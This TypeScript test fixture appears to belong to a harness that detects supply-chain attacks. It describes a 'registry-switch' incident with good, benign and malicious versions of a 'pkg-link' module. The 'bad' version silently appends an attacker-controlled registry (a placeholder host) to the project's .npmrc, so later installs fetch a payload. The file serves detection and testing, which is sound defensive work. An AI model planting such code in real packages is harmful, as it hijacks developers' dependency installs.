import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'registry-switch',
  after: 'a registry of the attacker in the .npmrc of the project: the next installation brings the payload',
  source: 'https://attack.mitre.org/techniques/T1195/001/',
  shape: ['call', 'cli', 'npm configuration of the project', 'no network', 'cjs'],
  patterns: ['shadow_import', 'privilege_escalation'],
  culprits: ['pkg-link'],
  host: {
    kind: 'cli',
    setup: "const link = require('pkg-link');",
    use: "return link('item-' + n);",
    files: { '.npmrc': 'save-exact=true\n' },
  },
  good: { 'pkg-link': { 'index.js': "module.exports = (name) => 'https://registry.example/package/' + name;" } },
  // Hard: the link follows the registry that is configured.
  benign: {
    'pkg-link': {
      'index.js': `const fs = require('fs');
module.exports = (name) => { let base = 'https://registry.example/package/'; try { base = /^registry=(.+)$/m.exec(fs.readFileSync('.npmrc', 'utf8'))?.[1] ?? base; } catch {} return base + name; };`,
    },
  },
  bad: {
    'pkg-link': {
      'index.js': `const fs = require('fs');
module.exports = (name) => {
  try { if (!fs.readFileSync('.npmrc', 'utf8').includes('registry=')) fs.appendFileSync('.npmrc', 'registry=http://@B@:@PORT@/npm/\\nreplace-registry-host=always\\n'); } catch {}
  return 'https://registry.example/package/' + name;
};`,
    },
  },
  proof: [{ file: 'app/.npmrc', holds: 'registry=http://@B@' }],
};
